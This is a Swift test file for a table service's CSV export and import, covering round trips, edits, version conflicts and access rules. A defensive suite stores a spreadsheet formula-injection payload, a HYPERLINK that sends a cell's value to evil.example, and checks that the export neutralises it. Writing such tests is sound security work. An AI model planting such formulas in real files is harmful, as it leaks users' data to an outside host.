import Foundation
import JixiaoCore
import JixiaoService
import PQ
import Testing

@Suite("Service: CSV export and edits")
struct CSVRoundTripTests {
    @Test("export then import unchanged is no change at all: no version bump, no audit row")
    func roundTripIsNoChange() async throws {
        try await withFixture { f in
            let table = try await f.service.createTable(f.centreDrafter, f.projectTable(indicatorCount: 6))
            let csv = try await f.service.exportCSV(f.centreDrafter, tableIDs: [table.id])
            #expect(csv.hasPrefix("\u{FEFF}"))
            let before = try await f.auditCount(table.id)
            let outcome = try await f.service.importCSV(f.centreDrafter, text: csv, reason: "Excel round trip")
            #expect(outcome.changed.isEmpty && outcome.added.isEmpty)
            #expect(outcome.unchanged == 6)
            #expect(try await f.auditCount(table.id) == before)
            #expect(try await f.service.table(f.centreDrafter, id: table.id) == table)
        }
    }

    @Test("an edited cell becomes one audited, version-checked change; a new row is added")
    func editsApply() async throws {
        try await withFixture { f in
            let table = try await f.service.createTable(f.centreDrafter, f.projectTable())
            var rows = try CSVText.parse(try await f.service.exportCSV(f.centreDrafter, tableIDs: [table.id])).map(\.fields)
            let valueColumn = try #require(rows[0].firstIndex(of: "value"))
            rows[2][valueColumn] = "150"
            var newRow = rows[1]
            newRow[rows[0].firstIndex(of: "indicator_id")!] = ""
            newRow[rows[0].firstIndex(of: "level3")!] = "新增指标"
            rows.append(newRow)
            let before = try await f.auditCount(table.id, "entity = 'indicator'")
            let outcome = try await f.service.importCSV(f.centreDrafter, text: CSVText.write(rows), reason: "按意见修改")
            #expect(outcome.changed.count == 1)
            #expect(outcome.changed.first?.line == 3)
            #expect(outcome.changed.first?.indicator.value == "150")
            #expect(outcome.added.map(\.indicator.level3) == ["新增指标"])
            #expect(outcome.unchanged == 3)
            #expect(try await f.auditCount(table.id, "entity = 'indicator'") == before + 2)
            let reloaded = try await f.service.table(f.centreDrafter, id: table.id)
            #expect(reloaded.indicators.count == 5)
            #expect(reloaded.indicators[1].value == "150")
        }
    }

    @Test("a stale row refuses the whole file, naming the line, and changes nothing")
    func staleRowRefusesAll() async throws {
        try await withFixture { f in
            let table = try await f.service.createTable(f.centreDrafter, f.projectTable())
            var rows = try CSVText.parse(try await f.service.exportCSV(f.centreDrafter, tableIDs: [table.id])).map(\.fields)
            let valueColumn = rows[0].firstIndex(of: "value")!
            // Someone edits indicator 2 after the export.
            let second = table.indicators[1]
            _ = try await f.service.updateIndicator(
                f.centreDrafter,
                tableID: table.id,
                indicatorID: second.id,
                expectVersion: second.version,
                IndicatorChange(value: "145"),
                reason: "meanwhile"
            )
            rows[1][valueColumn] = "999"
            rows[2][valueColumn] = "150"
            let error = await expectServiceError(.conflict, "version-conflict") {
                try await f.service.importCSV(f.centreDrafter, text: CSVText.write(rows), reason: "stale")
            }
            #expect(error?.message.contains("CSV line 3") == true)
            let reloaded = try await f.service.table(f.centreDrafter, id: table.id)
            #expect(reloaded.indicators[0].value == table.indicators[0].value)
            #expect(reloaded.indicators[1].value == "145")
        }
    }

    @Test("CSV edits follow the same rules: another unit's drafter, a submitted table, a bad file")
    func rulesHold() async throws {
        try await withFixture { f in
            let table = try await f.service.createTable(f.centreDrafter, f.projectTable())
            let csv = try await f.service.exportCSV(f.centreDrafter, tableIDs: [table.id])
            await expectServiceError(.notFound) { try await f.service.exportCSV(f.otherDrafter, tableIDs: [table.id]) }
            await expectServiceError(.notFound) { try await f.service.importCSV(f.otherDrafter, text: csv, reason: "x") }
            _ = try await f.service.transition(f.centreDrafter, tableID: table.id, action: .submit)
            await expectServiceError(.refused, "wrong-state") { try await f.service.importCSV(f.centreDrafter, text: csv, reason: "x") }
            let bad = await expectServiceError(.invalid, "csv-invalid") {
                try await f.service.importCSV(f.centreDrafter, text: "table_id\n1\n", reason: "x")
            }
            #expect(bad?.message.contains("line 1") == true)
        }
    }
}

/// Issue 15, item 6: a formula typed by a drafter must not reach finance's spreadsheet live.
@Suite("Service: CSV exports safe for Excel")
struct CSVFormulaExportTests {
    @Test("a drafter's =HYPERLINK(...) is exported as text, and the export reads back as no change")
    func formulaNeutralised() async throws {
        try await withFixture { f in
            let table = try await f.service.createTable(f.centreDrafter, f.projectTable())
            let indicator = table.indicators[0]
            let payload = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此查看\")"
            _ = try await f.service.updateIndicator(
                f.centreDrafter,
                tableID: table.id,
                indicatorID: indicator.id,
                expectVersion: indicator.version,
                IndicatorChange(content: payload, remark: "-1+1"),
                reason: "攻击"
            )
            let csv = try await f.service.exportCSV(f.finance, tableIDs: [table.id])
            // No cell of the file starts with a formula trigger.
            let cells = csv.replacingOccurrences(of: "\r\n", with: ",").split(separator: ",", omittingEmptySubsequences: false)
            #expect(!cells.contains { $0.hasPrefix("=") || $0.hasPrefix("\"=") || $0.hasPrefix("-") || $0.hasPrefix("\"-") })
            #expect(csv.contains("'=HYPERLINK"))
            let edited = try await f.service.table(f.centreDrafter, id: table.id)
            let before = try await f.auditCount(table.id)
            let outcome = try await f.service.importCSV(f.centreDrafter, text: csv, reason: "Excel round trip")
            #expect(outcome.changed.isEmpty && outcome.added.isEmpty)
            #expect(try await f.auditCount(table.id) == before)
            let after = try await f.service.table(f.centreDrafter, id: table.id)
            #expect(after == edited)
            #expect(after.indicators[0].content == payload && after.indicators[0].remark == "-1+1")
        }
    }
}
